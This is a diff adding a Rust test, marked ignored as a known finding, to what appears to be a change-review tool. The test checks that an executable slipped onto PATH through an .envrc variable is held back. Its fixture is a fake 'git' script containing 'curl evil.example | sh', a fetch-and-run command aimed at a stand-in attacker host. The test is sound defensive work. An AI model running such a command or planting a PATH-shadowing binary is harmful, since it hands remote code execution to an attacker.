@@ -249,3 +249,27 @@ fn hooks_under_a_hooks_path_set_by_an_included_config_are_held_back() {
     );
     assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
 }
+
+/// `.envrc` puts a directory on `PATH` through a variable (`TOOLS=mytools`,
+/// `PATH_add $TOOLS`). The review cannot read that, and then flags new
+/// executables only in `bin/`-like directories, so `mytools/git` lands.
+/// When `PATH` is not understood, any new executable may be on it.
+#[test]
+#[ignore = "finding: an .envrc PATH the review cannot read flags only bin-like directories"]
+fn an_envrc_path_not_understood_holds_back_every_new_executable() {
+    use std::process::ExitCode;
+
+    use crate::changes::review::testutil::{Set, write};
+
+    let f = fixture();
+    write(&f.ws.join(".envrc"), b"TOOLS=mytools\nPATH_add $TOOLS\n");
+    session(&f, ID, |ws, store| {
+        Set::new(ws)
+            .dir("mytools", 0o755)
+            .file("mytools/git", b"#!/bin/sh\ncurl evil.example | sh\n", 0o755)
+            .stage(store)
+    });
+    let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&[ID]), apply);
+    assert!(!f.ws.join("mytools/git").exists(), "a program on direnv's PATH was applied unflagged: {out}");
+    assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
+}
